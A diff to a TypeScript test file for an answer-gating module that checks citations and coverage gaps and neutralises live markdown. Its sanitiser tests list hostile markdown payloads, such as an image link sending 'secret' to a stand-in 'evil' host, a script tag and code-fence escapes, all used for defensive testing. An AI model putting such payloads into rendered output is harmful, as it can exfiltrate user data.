@@ -1,8 +1,16 @@
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import fc from 'fast-check';
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { CoverageFile, EvidenceFile, FinalAnswer } from '../../src/contracts/index.ts';
-import { type GateResult, gateAnswer, gateError, reduceEvidence } from '../../src/evidence/index.ts';
+import {
+  type GateResult,
+  gateAnswer,
+  gateError,
+  type ReduceJob,
+  reduceEvidence,
+} from '../../src/evidence/index.ts';
+import { type Markdown, type MarkdownNode, parseMarkdown, textOf } from '../../src/text/markdown/index.ts';
 import { CorpusOnDisk } from './corpus-on-disk.ts';
 
 const TEXT =
@@ -37,8 +45,26 @@ function answer(changes: Partial<FinalAnswer>): FinalAnswer {
   };
 }
 
-function gate(candidate: unknown, coverage = full): GateResult {
-  return gateAnswer(candidate, { evidence, coverage, reader: corpus.reader });
+function gate(candidate: unknown, coverage = full, options: { checkStatements?: boolean } = {}): GateResult {
+  return gateAnswer(candidate, { evidence, coverage, reader: corpus.reader, ...options });
+}
+
+/** The coverage of documents of which some were read. */
+async function coverageOf(documents: { text: string; status?: 'accepted' }[], into?: CorpusOnDisk) {
+  const made = into ?? new CorpusOnDisk();
+  const jobs: ReduceJob[] = [];
+  for (const [index, { text, status }] of documents.entries()) {
+    const chunks = into === undefined ? made.add(`d${index}.md`, text) : made.chunks;
+    if (status === 'accepted') jobs.push(made.job(chunks, {}));
+  }
+  const { coverage } = await reduceEvidence({
+    jobs,
+    chunks: made.chunks,
+    sources: made.sources,
+    reader: made.reader,
+    runDir: made.dir,
+  });
+  return { corpus: made, coverage };
 }
 
 function problems(candidate: unknown): string[] {
@@ -200,7 +226,7 @@ describe('what is said to be absent', () => {
     expect(result.answer.gaps[0]).toContain('only 50 % of the documents');
     expect(result.answer.gaps[0]).toContain(claim.replace(' [2]', ''));
     expect(result.answer.gaps.at(-1)).toBe('Own gap.');
-    expect(gate(result.answer, partial)).toEqual({ ok: true, answer: result.answer, moved: [] });
+    expect(gate(result.answer, partial)).toEqual({ ok: true, answer: result.answer, moved: [], uncited: [] });
   });
 
   it.each(claims)('stays when everything was read: %s', (claim) => {
@@ -220,6 +246,41 @@ describe('what is said to be absent', () => {
     });
   });
 
+  it('is seen when the sentence goes over several lines', () => {
+    const content = 'It needs oil [1].\n\nIn all of it there is\nno water pump. It runs on oil [1].';
+    expect(gate(answer({ content }), partial)).toMatchObject({
+      moved: ['In all of it there is no water pump.'],
+      answer: { content: 'It needs oil [1].\n\n It runs on oil [1].' },
+    });
+  });
+
+  it.each([
+    ['almost everything was read', 9_996, 10_000],
+    ['all but one byte was read', 999_999, 1_000_000],
+  ])('becomes a gap when %s', async (_name, read, all) => {
+    const { coverage } = await coverageOf([
+      { text: 'x'.repeat(read), status: 'accepted' },
+      { text: 'y'.repeat(all - read) },
+    ]);
+    expect(coverage.total.percent_read).toBe(99.9);
+    expect(gate(answer({ content: 'It needs oil [1]. There is no pump.' }), coverage)).toMatchObject({
+      moved: ['There is no pump.'],
+    });
+  });
+
+  it('becomes a gap when a document of unknown size was skipped', async () => {
+    const { corpus: other, coverage } = await coverageOf([{ text: 'All of it.', status: 'accepted' }]);
+    expect(gate(answer({ content: 'It needs oil [1]. There is no pump.' }), coverage)).toMatchObject({
+      moved: [],
+    });
+    other.leaveOut('gone.md', null);
+    const { coverage: less } = await coverageOf([{ text: 'All of it.', status: 'accepted' }], other);
+    expect(less.total).toMatchObject({ percent_read: 100, sources_skipped: 1 });
+    expect(gate(answer({ content: 'It needs oil [1]. There is no pump.' }), less)).toMatchObject({
+      moved: ['There is no pump.'],
+    });
+  });
+
   it('leaves a sentence when nothing else remains', () => {
     const result = gate(answer({ content: 'There is no pump.', citations: [], gaps: ['x'] }), partial);
     expect(result).toMatchObject({
@@ -228,3 +289,121 @@ describe('what is said to be absent', () => {
     });
   });
 });
+
+describe('what no citation supports', () => {
+  const content =
+    '# What the engine needs\n\nIt needs oil, e.g. the thick kind [1]. The pump was built in\nNorway. Why?\n\nThese parts matter:\n- The valve is made of brass.\n- The gauge shows 5 bar. [1]\n';
+
+  it('is returned and named in the gaps, statement by statement', () => {
+    const result = gate(answer({ content }), full, { checkStatements: true });
+    expect(result).toMatchObject({
+      ok: true,
+      uncited: ['The pump was built in Norway.', 'The valve is made of brass.'],
+      answer: {
+        gaps: [
+          'No evidence is cited for: “The pump was built in Norway.”',
+          'No evidence is cited for: “The valve is made of brass.”',
+        ],
+      },
+    });
+  });
+
+  it('is not named twice when the gaps name it already', () => {
+    const gaps = ['The pump was built in Norway: nobody says so.', 'the valve is made of brass'];
+    expect(gate(answer({ content, gaps }), full, { checkStatements: true })).toMatchObject({
+      uncited: [],
+      answer: { gaps },
+    });
+  });
+
+  it('is everything when several statements share citations without a mark', () => {
+    expect(gate(answer({ content: 'It needs oil.' }), full, { checkStatements: true })).toMatchObject({
+      uncited: [],
+    });
+    expect(
+      gate(answer({ content: 'It needs oil. It runs on air.' }), full, { checkStatements: true }),
+    ).toMatchObject({
+      uncited: ['It needs oil.', 'It runs on air.'],
+    });
+  });
+});
+
+describe('nothing in an answer comes alive in a client that renders it', () => {
+  const hostile = [
+    '![x](http://evil/?d=secret)',
+    '[click](http://evil)',
+    '[click][1]\n\n[1]: http://evil',
+    '<img src="http://evil">',
+    '<https://evil>',
+    '&#91;x](http://evil) <script>alert(1)</script>',
+    '\\`![x](http://evil)\\`',
+    '- ```\n![x](http://evil)\n```',
+    '`open\n`![x](http://evil)`',
+    '> ```\n![x](http://evil)',
+    '|a|\n|-|\n|` | `![x](http://evil)`|',
+  ];
+
+  it.each(hostile)('%s', (attack) => {
+    const result = gate(answer({ content: `It needs oil [1].\n\n${attack}`, gaps: [attack] }));
+    if (!result.ok) throw new Error(JSON.stringify(result.problems));
+    expect(liveNodes(result.answer.content)).toEqual([]);
+    expect(liveNodes(result.answer.gaps.join('\n\n'))).toEqual([]);
+    expect(gate(result.answer)).toMatchObject({ answer: result.answer });
+  });
+
+  it('whatever it is put together from', () => {
+    const pieces = [
+      '![x](http://e)',
+      '[a](http://e)',
+      '[1]: http://e',
+      '[a][1]',
+      '<b>',
+      '`',
+      '``',
+      '```',
+      '~~~',
+      '\n',
+      '\n\n',
+      '    ',
+      '> ',
+      '- ',
+      '1. ',
+      '|',
+      '\\',
+      'word ',
+      '# ',
+      '<!--',
+      '-->',
+      '$',
+      '*',
+      '\t',
+    ];
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 24 }), (parts) => {
+        const result = gate(answer({ content: `Oil [1]\n\n${parts.join('')}` }));
+        if (result.ok) expect(liveNodes(result.answer.content)).toEqual([]);
+      }),
+      { numRuns: 3000 },
+    );
+  });
+
+  it('while code keeps its characters', () => {
+    const content = 'Use `vector<int>[0](x)` as here [1]:\n\n```cpp\nstd::vector<int> a = f[0](x);\n```';
+    expect(gate(answer({ content }))).toMatchObject({ ok: true, answer: { content } });
+  });
+});
+
+/** What a renderer would load or follow, but bare addresses that say where they lead. */
+function liveNodes(markdown: string): string[] {
+  const found: string[] = [];
+  const visit = (node: MarkdownNode | Markdown) => {
+    if (/^(?:image|link|imageReference|linkReference|definition|html|footnote.*)$/.test(node.type)) {
+      const bare =
+        node.type === 'link' && /^(?:https?:\/\/|mailto:)?/.test(node.url) && node.url.endsWith(textOf(node));
+      if (!bare) found.push(node.type);
+    }
+    if ('children' in node) for (const child of node.children) visit(child);
+  };
+  visit(parseMarkdown(markdown));
+  return found;
+}
